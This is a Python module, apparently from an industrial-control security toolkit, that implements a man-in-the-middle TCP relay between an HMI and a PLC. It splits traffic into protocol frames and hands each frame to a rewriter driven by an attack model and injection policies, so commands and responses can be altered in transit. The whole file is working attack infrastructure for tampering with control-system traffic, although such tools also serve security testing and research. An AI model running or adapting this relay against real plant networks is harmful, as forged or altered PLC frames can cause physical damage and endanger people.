"""TCP relay that sits between HMI and PLC and rewrites frames in flight."""

from __future__ import annotations

import logging
import socket
import threading
import time
from typing import List, Optional, Sequence, Tuple

from ..capture import FlowKey
from ..inference.model import AttackModel
from ..proto import Endpoint, Frame, FrameError, frame_size
from .policy import InjectionPolicy
from .rewrite import InjectionLog, Rewriter

log = logging.getLogger(__name__)


class ConnectFailed(ConnectionError):
    pass


def pick_flow(model: AttackModel, policies: Sequence[InjectionPolicy],
              plc: Optional[Endpoint] = None) -> FlowKey:
    """The modeled flow a relay stands in for: named by ``plc``, else implied by the policies."""
    if plc is not None:
        hits = [f.key for f in model.flows if f.key.plc == plc]
    else:
        hits = list(dict.fromkeys(p.target.group.flow for p in policies))
        if not hits and len(model.flows) == 1:
            hits = [model.flows[0].key]
    if len(hits) != 1:
        raise ValueError(f"cannot tell which flow to relay ({len(hits)} candidates)")
    return hits[0]


class Relay:
    """Accepts HMI connections and forwards each to ``upstream``.

    Byte streams are cut into frames with the protocol's length field. Each
    frame is stamped with the modeled flow's endpoints so policies match, run
    through a shared :class:`Rewriter`, and forwarded. Bytes that do not frame
    cleanly are forwarded as they are and counted.
    """

    def __init__(self, listen: Tuple[str, int], upstream: Tuple[str, int], model: AttackModel,
                 policies: Sequence[InjectionPolicy], flow: Optional[FlowKey] = None,
                 seed: Optional[int] = None, connect_timeout: float = 5.0):
        self.listen = listen
        self.upstream = upstream
        self.flow = flow or pick_flow(model, policies)
        self.rewriter = Rewriter(model, policies, seed)
        self.connect_timeout = connect_timeout
        self._lock = threading.Lock()
        self._index = 0
        self._t0 = time.monotonic()
        self._server: Optional[socket.socket] = None
        self._threads: List[threading.Thread] = []
        self._stop = threading.Event()
        self.sessions = 0

    @property
    def log(self) -> InjectionLog:
        return self.rewriter.log

    @property
    def address(self) -> Tuple[str, int]:
        assert self._server is not None
        return self._server.getsockname()[:2]

    def start(self) -> Tuple[str, int]:
        srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(self.listen)
        srv.listen(4)
        srv.settimeout(0.2)
        self._server = srv
        t = threading.Thread(target=self._accept_loop, name="relay-accept", daemon=True)
        t.start()
        self._threads.append(t)
        return self.address

    def stop(self) -> None:
        self._stop.set()
        for t in list(self._threads):
            t.join(timeout=2.0)
        if self._server is not None:
            self._server.close()

    def __enter__(self) -> "Relay":
        self.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop()

    def _accept_loop(self) -> None:
        while not self._stop.is_set():
            try:
                client, _ = self._server.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            try:
                upstream = socket.create_connection(self.upstream, timeout=self.connect_timeout)
            except OSError as exc:
                log.warning("upstream %s:%d unreachable: %s", *self.upstream, exc)
                client.close()
                continue
            upstream.settimeout(None)
            client.settimeout(None)
            self.sessions += 1
            closed = threading.Event()
            for src, dst, a, b in ((client, upstream, self.flow.hmi, self.flow.plc),
                                   (upstream, client, self.flow.plc, self.flow.hmi)):
                t = threading.Thread(target=self._pump, args=(src, dst, a, b, closed, (client, upstream)),
                                     daemon=True)
                t.start()
                self._threads.append(t)

    def _handle(self, raw: bytes, src: Endpoint, dst: Endpoint) -> bytes:
        with self._lock:
            ts = int((time.monotonic() - self._t0) * 1e6)
            frame = Frame(ts, src, dst, self.flow.proto, raw)
            out = self.rewriter.process(frame, self._index)
            self._index += 1
        return out.raw

    def _pump(self, src_sock, dst_sock, src: Endpoint, dst: Endpoint,
              closed: threading.Event, pair) -> None:
        buf = b""
        try:
            while not closed.is_set():
                chunk = src_sock.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while buf:
                    try:
                        size = frame_size(buf, self.flow.proto)
                    except FrameError:
                        with self._lock:
                            self.log.decode_errors += 1
                        dst_sock.sendall(buf)
                        buf = b""
                        break
                    if size is None or len(buf) < size:
                        break
                    raw, buf = buf[:size], buf[size:]
                    dst_sock.sendall(self._handle(raw, src, dst))
            if buf:
                dst_sock.sendall(buf)
        except OSError:
            pass
        finally:
            closed.set()
            for s in pair:
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
                s.close()


def run_relay(listen: Tuple[str, int], upstream: Tuple[str, int], model: AttackModel,
              policies: Sequence[InjectionPolicy], flow: Optional[FlowKey] = None,
              seed: Optional[int] = None, duration: Optional[float] = None) -> InjectionLog:
    """Run a relay in the foreground until ``duration`` elapses or Ctrl-C."""
    try:
        socket.create_connection(upstream, timeout=2.0).close()
    except OSError as exc:
        raise ConnectFailed(f"upstream {upstream[0]}:{upstream[1]} unreachable: {exc}") from None
    relay = Relay(listen, upstream, model, policies, flow, seed)
    relay.start()
    try:
        if duration is None:
            while True:
                time.sleep(0.5)
        else:
            time.sleep(duration)
    except KeyboardInterrupt:
        pass
    finally:
        relay.stop()
    return relay.log
